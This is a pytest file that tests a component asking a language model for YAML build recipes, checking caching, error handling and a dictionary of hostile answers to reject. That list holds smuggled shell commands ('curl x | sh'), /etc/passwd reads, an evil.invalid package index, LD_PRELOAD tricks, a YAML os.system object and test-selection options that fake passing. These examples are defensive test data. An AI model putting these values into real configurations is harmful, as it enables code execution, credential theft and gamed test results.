"""A model is asked for recipes: good answers are proven, others are a reason, none is asked for twice."""

import json
import threading
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from repodojo.environments.git_objects import Blob
from repodojo.environments.recipes.environment import Builder
from repodojo.environments.recipes.environment_records import Attempt, Wanted
from repodojo.environments.recipes.folders import Folders
from repodojo.environments.recipes.model_proposer import ModelProposer
from repodojo.environments.recipes.proposals import Question
from repodojo.environments.recipes.recipe import Recipe
from repodojo.policies.openai_api import OpenAIPolicy
from repodojo.policies.scripted import ScriptedPolicy

WANTED = Wanted("it", "a/it", "", datetime(2024, 1, 1, tzinfo=UTC), ("tests/test_it.py",))
GOOD = "Here it is:\n```yaml\npython: '3.11'\nrequirements: [tiny-helper]\n```\nGood luck."


class Model(ThreadingHTTPServer):
    """Says what its turn in ``answers`` is, the last for ever."""

    def __init__(self, answers):
        super().__init__(("127.0.0.1", 0), Handler)
        self.answers, self.asked = answers, []
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def proposer(self, folder, rounds=2):
        url = f"http://127.0.0.1:{self.server_address[1]}/v1"
        return ModelProposer(OpenAIPolicy("tiny", [url], attempts=1), folder, rounds)


class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        server = self.server
        turn = len(server.asked)
        server.asked.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        text = server.answers[min(turn, len(server.answers) - 1)]
        message = {"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 1, "completion_tokens": 1}
        body = json.dumps({"choices": [message], "usage": usage}).encode()
        self.send_response(200 if text is not None else 500)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        """Say nothing."""


@pytest.fixture
def serve():
    running = []

    def start(*answers):
        running.append(Model(answers))
        return running[-1]

    yield start
    for model in running:
        model.shutdown()
        model.server_close()


@pytest.fixture(scope="module")
def sandboxes(start_backend):
    yield from start_backend("overlay")


def tree(**files):
    return {path.replace("__", "/") + ".py": Blob("100644", text.encode()) for path, text in files.items()}


def question(files=None, attempts=()):
    return Question(WANTED, files or tree(setup="setup()"), "it", ("3.11",), attempts)


def test_an_answer_is_read_kept_and_not_asked_for_again(serve, tmp_path):
    model = serve(GOOD)
    first = model.proposer(tmp_path).propose(question()).recipe
    assert first == Recipe(repo="a/it", python="3.11", requirements=("tiny-helper",), found_by="proposed")
    assert model.proposer(tmp_path).propose(question()).recipe == first
    assert len(model.asked) == 1
    model.proposer(tmp_path).propose(question(attempts=(Attempt("3.11", "x", "tests", "no_test_passes"),)))
    assert len(model.asked) == 2
    system, user = (message["content"] for message in model.asked[1]["messages"])
    assert "YAML" in system
    assert "Python 3.11, x, tests: no_test_passes" in user
    assert "=== setup.py\nsetup()" in user


def test_what_varies_between_runs_does_not_make_another_question(serve, tmp_path):
    model = serve(GOOD)
    for place in ("/tmp/a1 in 0.31s at 0x7f12ab34", "/tmp/b2 in 2.15s at 0x7fffff12"):
        model.proposer(tmp_path).propose(
            question(attempts=(Attempt("3.11", "x", "tests", f"fails {place}"),))
        )
    assert len(model.asked) == 1


MANY = ", ".join(f"p{number}" for number in range(1000))
HOSTILE = {
    "not a mapping": "I cannot help with that.",
    "no YAML": "```yaml\n{{{\n```",
    "shell in a package": "python: '3.11'\nrequirements: []\nsystem_packages: ['git; curl x | sh']",
    "removal of a package": "python: '3.11'\nrequirements: []\nsystem_packages: [coreutils-]",
    "absolute path": "python: '3.11'\nrequirements: [/etc/passwd]",
    "file address": "python: '3.11'\nrequirements: ['x @ file:///etc/passwd']",
    "option of pip": "python: '3.11'\nrequirements: ['--index-url=http://evil.invalid']",
    "two lines": 'python: "3.11"\nrequirements: ["six\\n-r /etc/passwd"]',
    "unknown field": "python: '3.11'\nrequirements: []\nnetwork: host",
    "another repository": "repo: b/other\npython: '3.11'\nrequirements: []",
    "says it is written by hand": "found_by: hand\npython: '3.11'\nrequirements: []",
    "the project itself": "python: '3.11'\nrequirements: [It==2.0]",
    "search path": "python: '3.11'\nrequirements: []\ntest: {variables: {PYTHONPATH: /}}",
    "preloading": "python: '3.11'\nrequirements: []\ntest: {variables: {LD_PRELOAD: /tmp/x.so}}",
    "selection of tests": "python: '3.11'\nrequirements: []\ntest: {options: [--last-failed]}",
    "collection alone": "python: '3.11'\nrequirements: []\ntest: {options: [--collect-only]}",
    "1,000 packages": f"python: '3.11'\nrequirements: []\nsystem_packages: [{MANY}]",
    "10 MB": "python: '3.11'\nrequirements: []\n#" + "x" * 10_000_000,
    "an object": "!!python/object/apply:os.system ['true']",
    "billion laughs": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "deep nesting": "[" * 60_000,
    "empty": "",
}


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE)
def test_an_answer_that_is_no_recipe_is_a_reason(tmp_path, answer):
    proposer = ModelProposer(ScriptedPolicy({"": [[answer]]}), tmp_path)
    proposal = proposer.propose(question())
    assert proposal.recipe is None
    assert proposal.reason.startswith("no_recipe: the answer")
    assert len(proposal.reason) < 700
    silent = ModelProposer(proposer.policy, tmp_path)
    assert silent.propose(question()) == proposal
    (kept,) = tmp_path.iterdir()
    assert kept.stat().st_size < 1 << 20


def test_an_endpoint_that_fails_is_a_reason_and_is_asked_again(serve, tmp_path):
    model = serve(None, "x" * 10_000_000, GOOD)
    assert model.proposer(tmp_path).propose(question()).reason.startswith("no_answer: tiny: ")
    assert "expected at most 65536 characters" in model.proposer(tmp_path).propose(question()).reason
    other = question(tree(setup="other()"))
    assert model.proposer(tmp_path).propose(other).recipe is not None


def test_recipes_are_asked_for_where_none_is_found_and_proven_like_any_other(
    serve, package_index, sandboxes, tmp_path
):
    """The tests import a module by a computed name, which nothing that is found can know."""
    test = (
        "from importlib.util import find_spec\n\ndef test_it():\n    assert find_spec('tiny' + '_helper')\n"
    )
    only = b"[project]\nname = 'it'\nrequires-python = '>=3.11,<3.12'\n"
    files = {**tree(tests__test_it=test), "pyproject.toml": Blob("100644", only)}
    wrong = "python: '3.11'\nrequirements: [tiny-late]"
    model = serve(wrong, GOOD)
    builder = Builder(sandboxes, Folders(tmp_path / "root"), (), model.proposer(tmp_path / "answers"))
    built = builder.build(WANTED, files)
    assert built.works, built.failure
    assert (built.recipe["found_by"], built.recipe["requirements"]) == ("proposed", ["tiny-helper"])
    assert len(model.asked) == 2
    assert "no_test_passes" in model.asked[0]["messages"][1]["content"]
    assert "tiny-late" in model.asked[1]["messages"][1]["content"]
    alone = Builder(sandboxes, Folders(tmp_path / "root")).build(WANTED, files)
    assert not alone.works
